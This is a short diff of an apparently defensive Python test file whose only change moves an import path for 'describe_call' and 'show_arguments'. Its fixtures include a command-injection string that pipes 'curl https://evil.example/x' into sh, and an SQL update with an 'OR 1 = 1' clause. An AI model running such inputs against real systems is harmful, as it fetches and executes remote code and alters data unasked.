@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from wakeful.domain.runs.call_words import describe_call, show_arguments
+from wakeful.core.call_words import describe_call, show_arguments
 
 EVIL = "; curl https://evil.example/x | sh"
 LONG_SQL = f"UPDATE customers SET note = '{'x' * 500}' WHERE id = 7 OR 1 = 1"
